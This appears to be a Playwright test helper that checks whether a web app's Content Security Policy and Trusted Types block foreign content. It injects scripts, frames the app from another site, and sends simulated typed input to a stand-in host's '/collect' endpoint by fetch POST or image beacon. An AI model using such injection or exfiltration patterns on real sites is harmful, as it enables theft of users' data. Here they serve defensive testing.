import type { Page } from 'playwright';
import type { Visit } from '../visit.ts';

/** A site that belongs neither to the app nor to a provider. */
const strangerSite = 'https://stranger.example';

/** URL of a script that no sign-in needs. The app's Content Security Policy allows scripts from this host. */
const unneededScript = 'https://apis.google.com/js/other.js';

export type ForeignScript = 'its own text' | 'another site' | 'an allowed site';

/** Adds an attacker's content to the page, and reports whether the browser blocks the content. */
export function createForeignContent(visit: Visit) {
  let reached = false;

  async function serveStranger(body = ''): Promise<Page> {
    const { page, guards, cleanups } = visit.session;
    guards.allow({ error: /Content Security Policy|Trusted ?Script|Refused to|violates the following/i });
    for (const url of [`${strangerSite}/**`, unneededScript]) {
      guards.allow({ request: url.replace('/**', '') });
      await page.route(url, (route) => {
        reached = true;
        const contentType = body === '' ? 'text/javascript' : 'text/html';
        const headers = { 'access-control-allow-origin': '*' };
        return route.fulfill({ contentType, headers, body: body || 'window.strangerHasRun = true;' });
      });
      cleanups.push(() => page.unroute(url));
    }
    return page;
  }

  return {
    async addForeignScript(kind: ForeignScript) {
      await visit.waitUntilIdle();
      const page = await serveStranger();
      const url = kind === 'an allowed site' ? unneededScript : `${strangerSite}/script.js`;
      await page.evaluate(addScript, kind === 'its own text' ? null : url);
    },
    hasForeignScriptRun: () => visit.whenIdle(({ page }) => page.evaluate(() => 'strangerHasRun' in window)),
    async sendToOtherSite(means: 'request' | 'picture') {
      await visit.waitUntilIdle();
      const page = await serveStranger();
      await page.evaluate(means === 'request' ? sendRequest : loadPicture, `${strangerSite}/collect`);
    },
    hasReachedOtherSite: async () => reached,
    /** Opens a page of another site. The page shows the app at `path` in a frame. */
    async showInFrame(path: string) {
      await visit.waitUntilIdle();
      const { href } = new URL(path, visit.session.page.url());
      const frame = `<iframe src="${href}" allow="local-network-access"></iframe>`;
      const page = await serveStranger(`<!doctype html><title>A stranger</title>${frame}`);
      // Chromium requires this permission before another site can show a local app in a frame.
      await page.context().grantPermissions(['local-network-access'], { origin: strangerSite });
      visit.session.cleanups.push(() => page.context().clearPermissions());
      await page.goto(`${strangerSite}/frame`);
    },
    async isPageInFrame() {
      const [, frame] = visit.session.page.frames();
      return (await frame?.evaluate(() => 'testBed' in window)) ?? false;
    },
  };
}

/** Adds a script to the page. Resolves when the script has run or was blocked. Runs in the page. */
function addScript(url: string | null): Promise<void> {
  return new Promise((resolve) => {
    const script = document.createElement('script');
    script.addEventListener('load', () => resolve());
    script.addEventListener('error', () => resolve());
    try {
      if (url === null) script.text = 'window.strangerHasRun = true;';
      else script.src = url;
    } catch {
      return resolve(); // With Trusted Types, assigning a string throws an error: the script cannot run.
    }
    document.head.append(script);
    if (url === null) resolve();
  });
}

/** Runs in the page. Resolves even if the browser blocks the request. */
async function sendRequest(url: string): Promise<void> {
  await fetch(url, { method: 'POST', body: 'what she types' }).catch(() => {});
}

/** Runs in the page. Resolves when the picture has been loaded, or when loading it has failed. */
function loadPicture(url: string): Promise<void> {
  return new Promise((resolve) => {
    const picture = new Image();
    picture.addEventListener('load', () => resolve());
    picture.addEventListener('error', () => resolve());
    picture.src = url;
  });
}
